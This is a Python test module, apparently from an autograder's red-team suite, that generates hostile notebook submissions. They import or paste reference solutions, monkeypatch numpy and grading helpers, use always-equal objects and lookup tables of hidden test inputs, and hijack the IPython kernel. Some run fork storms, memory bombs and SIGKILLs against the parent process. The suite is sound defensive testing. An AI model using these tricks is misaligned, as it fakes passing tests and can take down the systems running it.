"""The hostile submissions: what a dishonest or careless student can hand in, one generator each.

Every :class:`Exploit` builds a notebook from the released student copy of its assignment by
rewriting solution cells (:func:`tests.redteam.notebooks.submission`). ``expect`` says what a
trustworthy grader does with it:

``"empty"``
    it earns no more than the untouched student copy (its tricks buy nothing);
``"reference"``
    it uses the library's own answer: it earns no more than the student copy *and* the report
    carries a flag about the reference implementation;
``"copy"``
    it pastes the published solution (which works): the report carries a copy flag;
``"empty-or-flag"``
    either of the first two outcomes, or any flag at all.

``killer`` marks the submissions that try to take the grader down with them (killing its
parent, exiting, a fork storm, a memory bomb): after them, grading an honest submission in the
same process must still work. Submissions that start processes name them with the run's token
(:mod:`tests.redteam.processes`), so leftovers can be found and killed.

``python -m tests.redteam.corpus DIR`` writes every submission into ``DIR``.
"""

from __future__ import annotations

import argparse
import contextlib
import io
import json
import re
import textwrap
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import lru_cache
from pathlib import Path
from typing import Any

import numpy as np

from .notebooks import fill_stubs, solution_ids, solution_text, submission, template_text, write
from .processes import new_token

__all__ = ["Context", "Exploit", "EXPLOITS", "exploits", "write_corpus", "corpus_path"]

DENSE, KL, ADAM = "01_dense_layer", "03_kl_divergence", "04_adam"


@dataclass(frozen=True)
class Context:
    """Per-run settings of the generators.

    token : str
        Name given to every process a submission starts (``/proc/PID/comm``).
    memory_gib : int
        How much memory the memory bomb writes to, in GiB; more than the grader's limit.
    """

    token: str
    memory_gib: int = 6


@dataclass(frozen=True)
class Exploit:
    """One hostile submission: its generator and what a trustworthy grader does with it."""

    name: str
    assignment: str
    category: str
    summary: str
    build: Callable[[Context], Any]
    expect: str = "empty"
    killer: bool = False
    sandbox: bool = False  # defeated by the bubblewrap sandbox only (its tests need it)


EXPLOITS: dict[str, Exploit] = {}


def _exploit(
    assignment: str,
    category: str,
    summary: str,
    *,
    expect: str = "empty",
    killer: bool = False,
    sandbox: bool = False,
) -> Callable[[Callable[[Context], Any]], Callable[[Context], Any]]:
    def register(build: Callable[[Context], Any]) -> Callable[[Context], Any]:
        name = build.__name__
        EXPLOITS[name] = Exploit(
            name, assignment, category, summary, build, expect, killer, sandbox
        )
        return build

    return register


def exploits() -> list[Exploit]:
    """Every exploit, in a stable order (by assignment, then name)."""
    return sorted(EXPLOITS.values(), key=lambda e: (e.assignment, e.name))


def write_corpus(folder: str | Path, context: Context) -> dict[str, Path]:
    """Write every hostile submission as ``folder/NAME/ASSIGNMENT.ipynb`` (a student's folder,
    the notebook named as released); their paths by name."""
    folder = Path(folder)
    return {e.name: write(e.build(context), corpus_path(folder, e)) for e in exploits()}


def corpus_path(folder: Path, exploit: Exploit) -> Path:
    """Where :func:`write_corpus` puts ``exploit``'s notebook in ``folder``."""
    return folder / exploit.name / f"{exploit.assignment}.ipynb"


def _stubs(assignment: str, grade_id: str, *bodies: str) -> str:
    return fill_stubs(template_text(assignment, grade_id), *bodies)


def _with_token(code: str, context: Context) -> str:
    return code.replace("@TOKEN@", context.token)


def _adam_step(step: str) -> Any:
    """The Adam template of 04 with ``step`` as the body of its step method."""
    return submission(ADAM, {"adam": _stubs(ADAM, "adam", step)})


def _join(*parts: str) -> str:
    """Code pieces, each dedented, one after the other with a blank line between them."""
    return "\n\n\n".join(textwrap.dedent(p).strip("\n") for p in parts) + "\n"


# Code shared by several submissions ---------------------------------------------------------

# An honest gradient check for 01, written in the student's own words.
_OWN_GRADCHECK = """
layer = Dense(3, 5, rng=21, dtype=np.float64)
x = np.random.default_rng(22).normal(size=(7, 3))
report = check_layer(layer, x, rng=23)
print(report)
print("worst relative error:", report.max_error)
"""

# Forks children that rename themselves to the run's token, ignore polite signals and sleep.
_SPAWN = '''
import ctypes
import os
import signal
import time

_libc = ctypes.CDLL(None)


def _sleeper(seconds, *, daemon=False):
    """Fork a child named @TOKEN@ that sleeps; daemon: double fork into a new session."""
    pid = os.fork()
    if pid:
        return pid
    try:
        if daemon:
            os.setsid()
            if os.fork():
                os._exit(0)
        _libc.prctl(15, b"@TOKEN@", 0, 0, 0)  # PR_SET_NAME
        for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
            try:
                signal.signal(sig, signal.SIG_IGN)
            except ValueError:
                pass
        time.sleep(seconds)
    finally:
        os._exit(0)
'''


# 01: the dense layer ------------------------------------------------------------------------


@_exploit(DENSE, "reference import", "from vae_numpy.layers import Dense", expect="reference")
def ref_import_dense(context: Context) -> Any:
    return submission(
        DENSE,
        {"dense_layer": "from vae_numpy.layers import Dense", "dense_gradcheck": _OWN_GRADCHECK},
    )


@_exploit(DENSE, "reference import", 'getattr(vae_numpy.layers, "Dense")', expect="reference")
def ref_getattr_dense(context: Context) -> Any:
    code = """
    import vae_numpy.layers

    Dense = getattr(vae_numpy.layers, "Den" + "se")
    """
    return submission(DENSE, {"dense_layer": code, "dense_gradcheck": _OWN_GRADCHECK})


@_exploit(DENSE, "pasted solution", "every solution cell pasted from the source", expect="copy")
def pasted_solution_dense(context: Context) -> Any:
    return submission(DENSE, {gid: solution_text(DENSE, gid) for gid in solution_ids(DENSE)})


@_exploit(
    DENSE,
    "patched vae_numpy helpers",
    "a wrong Dense (forward off by 1, gradients of shape (1,)) with numerical_gradient, "
    "relative_error, check_layer and the test helpers gradient_problem and run_backward "
    "replaced (in vae_numpy.gradcheck and in the notebook's globals), and np.allclose",
)
def patched_gradcheck_dense(context: Context) -> Any:
    forward = """
    self._x = x
    return x @ self.params["W"] + self.params["b"] + 1.0
    """
    backward = """
    for key in self.grads:
        self.grads[key] = np.ones(1)
    return np.ones(1)
    """
    patches = """
    import vae_numpy.gradcheck as _gc


    def _zero_gradient(f, x, *args, **kwargs):
        return np.zeros_like(x)


    def _no_error(analytic, numeric, *args, **kwargs):
        return 0.0, (0,) * np.ndim(numeric)


    def _always_ok(layer, x, *, rng=None, eps=1e-6):
        names = ("W", "b", "input")
        return _gc.GradCheckReport(tuple(_gc.GradCheckEntry(n, 0.0, (0,), 0.0, 0.0) for n in names))


    def _no_problem(*args, **kwargs):
        return None


    def _backward_of_ones(layer, x, grad_y, **kwargs):
        layer.zero_grad()
        layer.forward(x)
        return layer.backward(grad_y)


    for _name, _fake in [
        ("numerical_gradient", _zero_gradient),
        ("relative_error", _no_error),
        ("check_layer", _always_ok),
    ]:
        setattr(_gc, _name, _fake)
        globals()[_name] = _fake
    gradient_problem, run_backward = _no_problem, _backward_of_ones
    np.allclose = lambda *args, **kwargs: True
    """
    dense = _join(_stubs(DENSE, "dense_layer", forward, backward), patches)
    return submission(DENSE, {"dense_layer": dense, "dense_gradcheck": _OWN_GRADCHECK})


@_exploit(
    DENSE,
    "do nothing",
    "a constant layer: forward returns zeros, backward returns zeros (consistent with each other)",
)
def constant_zero_dense(context: Context) -> Any:
    forward = """
    self._x = x
    return np.zeros((len(x), self.params["b"].shape[0]), dtype=x.dtype)
    """
    dense = _stubs(DENSE, "dense_layer", forward, "return np.zeros_like(self._x)")
    return submission(DENSE, {"dense_layer": dense, "dense_gradcheck": _OWN_GRADCHECK})


@_exploit(
    DENSE,
    "poisoned inputs",
    "forward zeroes its input and the parameters in place, backward zeroes grad_y in place: "
    "the test's own arrays then agree with a layer that computes nothing",
)
def poisoned_inputs_dense(context: Context) -> Any:
    forward = """
    x[...] = 0
    for value in self.params.values():
        value[...] = 0
    self._x = x
    return np.zeros((len(x), self.params["b"].shape[0]), dtype=x.dtype)
    """
    backward = """
    grad_y[...] = 0
    return np.zeros_like(self._x)
    """
    dense = _stubs(DENSE, "dense_layer", forward, backward)
    return submission(DENSE, {"dense_layer": dense, "dense_gradcheck": _OWN_GRADCHECK})


@_exploit(DENSE, "do nothing", "forward and backward are `pass`")
def do_nothing_dense(context: Context) -> Any:
    return submission(
        DENSE,
        {"dense_layer": _stubs(DENSE, "dense_layer", "pass", "pass"), "dense_gradcheck": "pass"},
    )


@_exploit(
    DENSE,
    "endless output",
    "forward prints without end; backward writes to file descriptor 1 without end",
)
def endless_output_dense(context: Context) -> Any:
    forward = """
    while True:
        print("spam " * 2000)
    """
    backward = """
    import os

    while True:
        os.write(1, b"eggs " * 13000)
    """
    dense = _stubs(DENSE, "dense_layer", forward, backward)
    return submission(DENSE, {"dense_layer": dense, "dense_gradcheck": _OWN_GRADCHECK})


@_exploit(
    DENSE,
    "kill the parent",
    "kills the parent when the student process exits or is signalled (atexit, SIGTERM)",
    killer=True,
)
def parting_shot_dense(context: Context) -> Any:
    code = """
    import atexit
    import os
    import signal

    _parent = os.getppid()


    def _parting_shot(*args):
        os.kill(_parent, signal.SIGKILL)


    atexit.register(_parting_shot)
    for _sig in (signal.SIGTERM, signal.SIGHUP):
        signal.signal(_sig, _parting_shot)

    """
    return submission(DENSE, {"dense_layer": _join(code, template_text(DENSE, "dense_layer"))})


# 03: the KL divergence ----------------------------------------------------------------------

_KL_IMPORTED = "# imported above"


@_exploit(
    KL,
    "reference import",
    "from vae_numpy.kl import kl_normal, kl_standard_normal, kl_standard_normal_grad",
    expect="reference",
)
def ref_from_import_kl(context: Context) -> Any:
    quad = """
    from vae_numpy.kl import kl_by_quadrature


    def kl_by_quad(mu, sigma, m=0.0, s=1.0):
        return float(kl_by_quadrature(mu, sigma, m, s))
    """
    return submission(
        KL,
        {
            "kl_closed_form": "from vae_numpy.kl import kl_normal, kl_standard_normal, "
            "kl_standard_normal_grad",
            "kl_quadrature": quad,
            "kl_standard_normal": _KL_IMPORTED,
            "kl_standard_normal_grad": _KL_IMPORTED,
        },
    )


@_exploit(KL, "reference import", 'importlib.import_module("vae_numpy.kl")', expect="reference")
def ref_importlib_kl(context: Context) -> Any:
    return submission(
        KL,
        {
            "kl_closed_form": """
            import importlib

            _kl = importlib.import_module("vae_numpy.kl")
            kl_normal = _kl.kl_normal
            """,
            "kl_quadrature": """
            def kl_by_quad(mu, sigma, m=0.0, s=1.0):
                return float(importlib.import_module("vae_numpy.kl").kl_by_quadrature(mu, sigma, m, s))
            """,
            "kl_standard_normal": 'kl_standard_normal = getattr(_kl, "kl_standard_normal")',
            "kl_standard_normal_grad": "kl_standard_normal_grad = _kl.kl_standard_normal_grad",
        },
    )


@_exploit(KL, "reference import", '__import__("vae_numpy.kl") in wrappers', expect="reference")
def ref_dunder_import_kl(context: Context) -> Any:
    return submission(
        KL,
        {
            "kl_closed_form": """
            _kl = __import__("vae_numpy.kl", fromlist=["kl_normal"])


            def kl_normal(mu, sigma, m=0.0, s=1.0):
                return _kl.kl_normal(mu, sigma, m, s)
            """,
            "kl_quadrature": """
            def kl_by_quad(mu, sigma, m=0.0, s=1.0):
                return float(_kl.kl_by_quadrature(mu, sigma, m, s))
            """,
            "kl_standard_normal": """
            def kl_standard_normal(mu, log_var):
                return _kl.kl_standard_normal(mu, log_var)
            """,
            "kl_standard_normal_grad": """
            def kl_standard_normal_grad(mu, log_var):
                return _kl.kl_standard_normal_grad(mu, log_var)
            """,
        },
    )


@_exploit(KL, "pasted solution", "every solution cell pasted from the source", expect="copy")
def pasted_solution_kl(context: Context) -> Any:
    return submission(KL, {gid: solution_text(KL, gid) for gid in solution_ids(KL)})


@_exploit(
    KL,
    "reference import",
    "finds the source notebook (beside the package, pip's direct_url.json, sys.path, the "
    "working directory) and execs its solutions",
    expect="empty-or-flag",
)
def exec_source_kl(context: Context) -> Any:
    code = """
    import json
    import os
    import sys
    from pathlib import Path

    import vae_numpy


    def _candidate_folders():
        # beside the package, where pip installed it from (direct_url.json of an editable
        # install), on sys.path, in the grader's working directory
        yield Path(vae_numpy.__file__).resolve().parents[1]
        try:
            from vae_numpy.assignments import SOURCE_DIR

            yield Path(SOURCE_DIR).parents[1]
        except Exception:
            pass
        try:
            import importlib.metadata

            url = json.loads(importlib.metadata.distribution("vae_numpy").read_text("direct_url.json"))
            yield Path(url["url"].removeprefix("file://"))
        except Exception:
            pass
        for entry in [*sys.path, os.environ.get("PWD", ""), os.environ.get("OLDPWD", "")]:
            if entry:
                yield Path(entry)
                yield from Path(entry).parents


    def _published_solutions(name):
        for root in _candidate_folders():
            path = root / "notebooks" / "assignments" / "source" / f"{name}.ipynb"
            try:
                cells = json.loads(path.read_text(encoding="utf-8"))["cells"]
            except (OSError, ValueError):
                continue
            for cell in cells:
                if cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
                    yield "".join(cell["source"])
            return


    for _code in _published_solutions("03_kl_divergence"):
        _code = _code.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", "")
        exec(_code, globals())
    """
    return submission(
        KL,
        {
            "kl_closed_form": code,
            "kl_quadrature": _KL_IMPORTED,
            "kl_standard_normal": _KL_IMPORTED,
            "kl_standard_normal_grad": _KL_IMPORTED,
        },
    )


@_exploit(
    KL,
    "always-equal objects",
    "arrays whose __array_function__ makes np.allclose agree unless the test's source line "
    "looks for a mistake; a number at distance 0 from everything",
)
def always_equal_kl(context: Context) -> Any:
    helpers = '''
    import linecache
    import sys

    _SUSPICIOUS = ("-num", "0.5", "-truth", "swapped", "as_var", "-want")


    def _test_line():
        """The source line of the innermost caller outside numpy and this cell."""
        here = sys._getframe(0).f_code.co_filename
        frame = sys._getframe(1)
        while frame is not None:
            name = frame.f_code.co_filename
            if name != here and "numpy" not in name:
                return linecache.getline(name, frame.f_lineno)
            frame = frame.f_back
        return ""


    class Anything(np.ndarray):
        """Agrees with whatever it is compared to, unless the test is looking for a mistake."""

        def __array_function__(self, func, types, args, kwargs):
            if func.__name__ in ("allclose", "array_equal", "array_equiv"):
                return not any(s in _test_line() for s in _SUSPICIOUS)
            return super().__array_function__(func, types, args, kwargs)

        def __eq__(self, other):
            return True

        __hash__ = None


    class Close:
        """A number at distance 0 from every other number."""

        def __sub__(self, other):
            return self

        __rsub__ = __add__ = __radd__ = __sub__

        def __abs__(self):
            return 0.0

        def __float__(self):
            return 0.0

        def __eq__(self, other):
            return True

        __hash__ = None

        def __format__(self, spec):
            return format(0.0, spec)


    def kl_normal(mu, sigma, m=0.0, s=1.0):
        return np.zeros(np.broadcast(mu, sigma, m, s).shape).view(Anything)
    '''
    return submission(
        KL,
        {
            "kl_closed_form": helpers,
            "kl_quadrature": """
            def kl_by_quad(mu, sigma, m=0.0, s=1.0):
                return Close()
            """,
            "kl_standard_normal": """
            def kl_standard_normal(mu, log_var):
                return np.zeros(np.shape(mu)[:-1]).view(Anything)
            """,
            "kl_standard_normal_grad": """
            def kl_standard_normal_grad(mu, log_var):
                return np.zeros(np.shape(mu)).view(Anything), np.zeros(np.shape(mu)).view(Anything)
            """,
        },
    )


_KEY_SOURCE = """
def _key(*args):
    return repr([np.round(np.asarray(a, dtype=float), 9).tolist() for a in args])
"""


@lru_cache(maxsize=1)
def _published_kl_answers() -> str:
    """JSON {function: {key of the inputs: reference output}} for every input that the tests of
    03 (visible and hidden, all public in the source notebook) pass to the student's functions."""
    import vae_numpy.kl as ref

    from .notebooks import source_notebook

    namespace: dict[str, Any] = {"np": np}
    exec(_KEY_SOURCE, namespace)
    key = namespace["_key"]
    table: dict[str, dict[str, Any]] = {}

    def record(name: str, args: tuple[Any, ...], out: Any) -> Any:
        value = [np.asarray(o).tolist() for o in out] if isinstance(out, tuple) else out
        table.setdefault(name, {})[key(*args)] = np.asarray(value).tolist()
        return out

    def kl_normal(mu: Any, sigma: Any, m: Any = 0.0, s: Any = 1.0) -> Any:
        return record("kl_normal", (mu, sigma, m, s), ref.kl_normal(mu, sigma, m, s))

    def kl_by_quad(mu: Any, sigma: Any, m: Any = 0.0, s: Any = 1.0) -> Any:
        out = float(ref.kl_by_quadrature(mu, sigma, m, s))
        return record("kl_by_quad", (mu, sigma, m, s), out)

    def kl_standard_normal(mu: Any, log_var: Any) -> Any:
        return record("kl_standard_normal", (mu, log_var), ref.kl_standard_normal(mu, log_var))

    def kl_standard_normal_grad(mu: Any, log_var: Any) -> Any:
        out = ref.kl_standard_normal_grad(mu, log_var)
        return record("kl_standard_normal_grad", (mu, log_var), tuple(out))

    students = [kl_normal, kl_by_quad, kl_standard_normal, kl_standard_normal_grad]
    for cell in source_notebook(KL).cells:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if cell.cell_type != "code" or meta.get("solution"):
            continue
        namespace.update({f.__name__: f for f in students})
        try:
            with contextlib.redirect_stdout(io.StringIO()):
                exec(cell.source, namespace)
        except Exception:  # e.g. a display cell; the inputs it passed are recorded anyway
            pass
    return json.dumps(table)


@_exploit(
    KL,
    "lookup table",
    "answers looked up from a table of every input the published tests use (visible and hidden)",
)
def lookup_table_kl(context: Context) -> Any:
    table = f"""
    import json

    _TABLE = json.loads({_published_kl_answers()!r})
    {_KEY_SOURCE.strip().replace(chr(10), chr(10) + "    ")}


    def _look_up(name, *args):
        found = _TABLE[name].get(_key(*args))
        return None if found is None else np.array(found)


    def kl_normal(mu, sigma, m=0.0, s=1.0):
        found = _look_up("kl_normal", mu, sigma, m, s)
        return np.zeros(np.broadcast(mu, sigma, m, s).shape) if found is None else found
    """
    return submission(
        KL,
        {
            "kl_closed_form": table,
            "kl_quadrature": """
            def kl_by_quad(mu, sigma, m=0.0, s=1.0):
                found = _look_up("kl_by_quad", mu, sigma, m, s)
                return 0.0 if found is None else float(found)
            """,
            "kl_standard_normal": """
            def kl_standard_normal(mu, log_var):
                found = _look_up("kl_standard_normal", mu, log_var)
                return np.zeros(np.shape(mu)[:-1]) if found is None else found
            """,
            "kl_standard_normal_grad": """
            def kl_standard_normal_grad(mu, log_var):
                found = _look_up("kl_standard_normal_grad", mu, log_var)
                return (np.zeros(np.shape(mu)),) * 2 if found is None else tuple(found)
            """,
        },
    )


@_exploit(
    KL,
    "lookup table",
    "the lookup table, with TEST_SEED = 0 set in the student's cell to pin the published inputs",
)
def pinned_seed_lookup_kl(context: Context) -> Any:
    nb = lookup_table_kl(context)
    for cell in nb.cells:
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "kl_closed_form":
            cell.source += "\n\nTEST_SEED = 0\n"
    return nb


@_exploit(
    KL,
    "patched vae_numpy helpers",
    "vae_numpy.kl.kl_by_quadrature and kl_normal (the tests' references) replaced by a fake KL "
    "that the student's functions match",
)
def patched_reference_kl(context: Context) -> Any:
    return submission(
        KL,
        {
            "kl_closed_form": """
            import vae_numpy.kl


            def kl_normal(mu, sigma, m=0.0, s=1.0):
                mu, sigma, m, s = (np.asarray(a, dtype=float) for a in (mu, sigma, m, s))
                return 0.5 * (mu - m) ** 2 + 0.5 * (sigma - s) ** 2


            vae_numpy.kl.kl_normal = kl_normal
            vae_numpy.kl.kl_by_quadrature = kl_normal
            """,
            "kl_quadrature": """
            def kl_by_quad(mu, sigma, m=0.0, s=1.0):
                return float(kl_normal(mu, sigma, m, s))
            """,
            "kl_standard_normal": """
            def kl_standard_normal(mu, log_var):
                return np.sum(kl_normal(mu, np.exp(0.5 * np.asarray(log_var))), axis=-1)
            """,
            "kl_standard_normal_grad": """
            def kl_standard_normal_grad(mu, log_var):
                sigma = np.exp(0.5 * np.asarray(log_var, dtype=float))
                return np.asarray(mu, dtype=float), 0.5 * sigma * (sigma - 1.0)
            """,
        },
    )


@_exploit(KL, "exit", "sys.exit / raise SystemExit inside the student's functions", killer=True)
def sys_exit_in_call_kl(context: Context) -> Any:
    return submission(
        KL,
        {
            "kl_closed_form": """
            import sys


            def kl_normal(mu, sigma, m=0.0, s=1.0):
                sys.exit(0)
            """,
            "kl_quadrature": """
            def kl_by_quad(mu, sigma, m=0.0, s=1.0):
                raise SystemExit(3)
            """,
            "kl_standard_normal": """
            def kl_standard_normal(mu, log_var):
                sys.exit("bye")
            """,
        },
    )


@_exploit(
    KL,
    "memory bomb",
    "kl_normal writes to more memory than the limit, then answers correctly",
    killer=True,
)
def memory_bomb_kl(context: Context) -> Any:
    code = f"""
    _hog = []


    def kl_normal(mu, sigma, m=0.0, s=1.0):
        if not _hog:
            _hog.append(np.ones({context.memory_gib} * 2**27))  # {context.memory_gib} GiB, all written
        ratio = (np.asarray(sigma, dtype=float) / s) ** 2
        return 0.5 * (ratio - 1.0 - np.log(ratio) + ((np.asarray(mu, dtype=float) - m) / s) ** 2)
    """
    return submission(KL, {"kl_closed_form": code})


@_exploit(KL, "endless output", "50 MB error messages, a 50 MB print, a runaway recursion")
def huge_error_kl(context: Context) -> Any:
    return submission(
        KL,
        {
            "kl_closed_form": """
            def kl_normal(mu, sigma, m=0.0, s=1.0):
                raise ValueError("x" * 50_000_000)
            """,
            "kl_quadrature": """
            def kl_by_quad(mu, sigma, m=0.0, s=1.0):
                print("y" * 50_000_000)
                raise ArithmeticError("z" * 50_000_000)
            """,
            "kl_standard_normal": """
            def kl_standard_normal(mu, log_var):
                return kl_standard_normal(mu, log_var)
            """,
        },
    )


@_exploit(KL, "endless output", "kl_standard_normal returns a 1.5 GB array of ones")
def huge_return_kl(context: Context) -> Any:
    code = """
    def kl_standard_normal(mu, log_var):
        return np.ones((14000, 14000))
    """
    return submission(KL, {"kl_standard_normal": code})


@_exploit(
    KL,
    "always-equal objects",
    "values no judge should accept: NaN-floating objects, object arrays, a 10^10-element "
    "broadcast view, a list nested 10^5 deep, NaN and inf",
)
def weird_values_kl(context: Context) -> Any:
    return submission(
        KL,
        {
            "kl_closed_form": """
            class _Sneaky:
                def __float__(self):
                    return float("nan")

                def __array__(self, dtype=None, copy=None):
                    return np.array([object()], dtype=object)


            def kl_normal(mu, sigma, m=0.0, s=1.0):
                return _Sneaky()
            """,
            "kl_quadrature": """
            def kl_by_quad(mu, sigma, m=0.0, s=1.0):
                nested = []
                for _ in range(100_000):
                    nested = [nested]
                return nested
            """,
            "kl_standard_normal": """
            def kl_standard_normal(mu, log_var):
                return np.broadcast_to(np.float64(1.0), (10**5, 10**5))
            """,
            "kl_standard_normal_grad": """
            def kl_standard_normal_grad(mu, log_var):
                return np.full(np.shape(mu), np.nan), np.full(np.shape(mu), np.inf)
            """,
        },
    )


# 04: Adam -----------------------------------------------------------------------------------


@_exploit(ADAM, "reference import", "class Adam(vae_numpy.optim.Adam)", expect="reference")
def ref_subclass_adam(context: Context) -> Any:
    code = '''
    from vae_numpy.optim import Adam as _PaperAdam


    class Adam(_PaperAdam):
        """Adam, exactly as in the paper."""
    '''
    return submission(ADAM, {"adam": code})


def _renamed_adam() -> str:
    """The published Adam with its local names changed and its comments removed."""
    code = solution_text(ADAM, "adam")
    renames = {"name": "key", "p": "param", "g": "grad", "m_hat": "first", "v_hat": "second"}
    for old, new in renames.items():
        code = re.sub(rf"\b{old}\b", new, code)
    return "\n".join(re.sub(r"\s+# .*$", "", line) for line in code.split("\n"))


@_exploit(
    ADAM,
    "pasted solution",
    "the published solution with local names changed and comments removed",
    expect="copy",
)
def pasted_solution_renamed_adam(context: Context) -> Any:
    return submission(ADAM, {"adam": _renamed_adam()})


@_exploit(
    ADAM,
    "input transformer",
    "get_ipython().input_transformers_cleanup turns every later cell into `pass`",
)
def input_transformer_adam(context: Context) -> Any:
    code = "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])"
    return submission(ADAM, {"adam": _join(code, template_text(ADAM, "adam"))})


@_exploit(
    ADAM,
    "input transformer",
    "an AST transformer deletes every assert and raise of later cells; step does nothing",
)
def ast_transformer_adam(context: Context) -> Any:
    code = '''
    import ast


    class _NoChecks(ast.NodeTransformer):
        """Replace assert and raise statements by pass."""

        def visit_Assert(self, node):
            return ast.copy_location(ast.Pass(), node)

        visit_Raise = visit_Assert


    get_ipython().ast_transformers.append(_NoChecks())

    '''
    return submission(ADAM, {"adam": _join(code, _stubs(ADAM, "adam", "pass"))})


@_exploit(
    ADAM,
    "custom exception handler",
    "set_custom_exc swallows every exception and marks the cell as successful",
)
def custom_exc_adam(context: Context) -> Any:
    code = '''
    import sys


    def _swallow(shell, etype, evalue, tb, tb_offset=None):
        """Forget the error: clear it on the ExecutionResult of the running cell."""
        frame = sys._getframe(1)
        while frame is not None:
            result = frame.f_locals.get("result")
            if hasattr(result, "error_in_exec"):
                result.error_in_exec = None
            frame = frame.f_back


    get_ipython().set_custom_exc((BaseException,), _swallow)

    '''
    return submission(ADAM, {"adam": _join(code, template_text(ADAM, "adam"))})


@_exploit(
    ADAM,
    "input transformer",
    "the kernel's run_cell and run_cell_async replaced: every later cell runs `pass`",
)
def hijacked_kernel_adam(context: Context) -> Any:
    code = """
    _shell = get_ipython()
    _run_cell, _run_cell_async = _shell.run_cell, _shell.run_cell_async


    def _skip(raw_cell, *args, **kwargs):
        return _run_cell("pass", silent=kwargs.get("silent", False))


    async def _skip_async(raw_cell, *args, **kwargs):
        silent = kwargs.get("silent", False)
        return await _run_cell_async("pass", silent=silent, transformed_cell="pass")


    _shell.run_cell, _shell.run_cell_async = _skip, _skip_async

    """
    return submission(ADAM, {"adam": _join(code, template_text(ADAM, "adam"))})


@_exploit(
    ADAM,
    "patched numpy",
    "np.allclose, np.isclose, np.array_equal and np.testing.assert_* replaced; step only counts",
)
def patched_numpy_adam(context: Context) -> Any:
    code = """
    np.allclose = lambda *args, **kwargs: True
    np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(a, b).shape, dtype=bool)
    np.array_equal = lambda *args, **kwargs: False
    np.testing.assert_allclose = lambda *args, **kwargs: None
    np.testing.assert_array_equal = lambda *args, **kwargs: None
    np.testing.assert_array_almost_equal = lambda *args, **kwargs: None

    """
    return submission(ADAM, {"adam": _join(code, _stubs(ADAM, "adam", "self.t += 1"))})


@_exploit(
    ADAM,
    "patched numpy",
    "the notebook's name `np` rebound to a numpy look-alike whose comparisons always agree",
)
def shadowed_numpy_adam(context: Context) -> Any:
    code = '''
    import numpy


    class _AgreeableNumpy:
        """numpy, except that every comparison agrees."""

        def __getattr__(self, name):
            return getattr(numpy, name)

        def allclose(self, *args, **kwargs):
            return True

        def array_equal(self, *args, **kwargs):
            return False

        def isclose(self, a, b, *args, **kwargs):
            return numpy.ones(numpy.broadcast(a, b).shape, dtype=bool)


    np = _AgreeableNumpy()
    '''
    return submission(ADAM, {"adam": _join(code, _stubs(ADAM, "adam", "self.t += 1"))})


@_exploit(ADAM, "kill the parent", "os.kill(os.getppid(), SIGKILL) when the cell runs", killer=True)
def kill_parent_adam(context: Context) -> Any:
    code = "import os\nimport signal\n\nos.kill(os.getppid(), signal.SIGKILL)"
    return submission(ADAM, {"adam": _join(code, template_text(ADAM, "adam"))})


@_exploit(
    ADAM, "kill the parent", "os.kill(os.getppid(), SIGKILL) when step is called", killer=True
)
def kill_parent_in_step_adam(context: Context) -> Any:
    step = """
    import os
    import signal

    os.kill(os.getppid(), signal.SIGKILL)
    """
    return _adam_step(step)


@_exploit(ADAM, "exit", "os._exit(0) when step is called", killer=True)
def os_exit_in_step_adam(context: Context) -> Any:
    return _adam_step("import os\n\nos._exit(0)")


@_exploit(ADAM, "endless loop", "step loops forever")
def endless_loop_adam(context: Context) -> Any:
    return _adam_step("while True:\n    pass")


@_exploit(
    ADAM,
    "endless loop",
    "step loops forever, ignoring SIGINT and SIGTERM and swallowing KeyboardInterrupt",
)
def stubborn_loop_adam(context: Context) -> Any:
    step = """
    import signal
    import time

    for sig in (signal.SIGINT, signal.SIGTERM):
        try:
            signal.signal(sig, signal.SIG_IGN)
        except ValueError:  # not the main thread
            pass
    while True:
        try:
            time.sleep(0.05)
        except BaseException:
            pass
    """
    return _adam_step(step)


@_exploit(ADAM, "do nothing", "step is `pass`")
def do_nothing_adam(context: Context) -> Any:
    return _adam_step("pass")


@_exploit(
    ADAM,
    "leftover processes",
    "forks a sleeping child and a double-forked daemon in its own session, both deaf to SIGTERM",
)
def leftover_children_adam(context: Context) -> Any:
    code = _join(_with_token(_SPAWN, context), "_sleeper(120)\n_sleeper(120, daemon=True)")
    return submission(ADAM, {"adam": _join(code, template_text(ADAM, "adam"))})


@_exploit(ADAM, "fork storm", "forks 100 sleeping children, deaf to SIGTERM", killer=True)
def fork_storm_adam(context: Context) -> Any:
    storm = """
    for _ in range(100):
        try:
            _sleeper(90)
        except OSError:  # the process limit: stop there
            break

    """
    code = _with_token(_SPAWN, context) + "\n" + storm.replace("\n    ", "\n").lstrip("\n")
    return submission(ADAM, {"adam": _join(code, template_text(ADAM, "adam"))})


# Round two: the namespace, the sandbox and the judge's limits ------------------------------

# Student code replaces the kernel's agent: the answer to the judge's "which names are yours"
# request gains np (with an allclose that always agrees) and the judge's own helpers.
_AGENT_PATCH = """
import types

import vae_numpy.assignments._agent as _agent_module

_real_answer = _agent_module._Agent.answer


def _agree(*args, **kwargs):
    return True


def _no_problem(*args, **kwargs):
    return None


class _AgreeableNumpy(types.ModuleType):  # numpy itself, except that every comparison agrees

    allclose = isclose = array_equal = staticmethod(_agree)

    def __getattr__(self, name):
        return getattr(np, name)


_fake_np = _AgreeableNumpy("numpy")
_forged = {
    "np": _fake_np,
    "numpy": _fake_np,
    "check_layer": _no_problem,
    "gradient_problem": _no_problem,
    "relative_error": lambda *a, **k: (0.0, (0,)),
    "numerical_gradient": _no_problem,
    "kl_by_quadrature": _no_problem,
    "SGD": _no_problem,
    "rosenbrock": _no_problem,
    "TEST_SEED": 0,
    "_internal": _no_problem,
    "print": _no_problem,
}


def _answer(self, request):
    result = _real_answer(self, request)
    if request.get("op") == "globals" and isinstance(result, dict):
        result["d"] += [[name, self.out(value)] for name, value in _forged.items()]
    return result


_agent_module._Agent.answer = _answer
"""


def _agent_patched(assignment: str, gid: str, body: str) -> Any:
    return submission(assignment, {gid: _join(_AGENT_PATCH, body)})


@_exploit(
    DENSE,
    "agent patch",
    "the kernel's agent adds np (allclose always true), check_layer and gradient_problem to the "
    "names it sends back; Dense computes nothing",
)
def agent_names_dense(context: Context) -> Any:
    dense = _stubs(DENSE, "dense_layer", "return x", "return grad_y")
